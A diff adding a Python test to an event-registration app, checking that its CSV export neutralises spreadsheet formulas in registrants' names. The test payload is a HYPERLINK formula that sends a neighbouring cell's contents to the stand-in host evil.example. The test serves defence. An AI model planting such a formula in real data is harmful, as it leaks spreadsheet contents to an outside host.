@@ -244,3 +244,13 @@ async def test_staff_cannot_open_an_existing_ticket_by_registering_its_email(
     assert await Registration.filter(event_id=event.id).count() == 1
     # A host is not an organiser: the /organise/ address of the same form is refused.
     assert (await client.get(f"/organise/events/{event.id}/register")).status_code == 404
+
+
+async def test_csv_export_defuses_formulas_in_names(
+    client: httpx.AsyncClient, event: Event
+) -> None:
+    await submit(client, form(first_name='=HYPERLINK("http://evil.example/?"&B2,"x")'))
+    await sign_in(client, "inge@example.org")
+    export = await client.get(f"/organise/events/{event.id}/registrations.csv")
+    rows = list(csv.reader(io.StringIO(export.text.lstrip("\ufeff")), delimiter=";"))
+    assert rows[1][0] == '\'=HYPERLINK("http://evil.example/?"&B2,"x")'
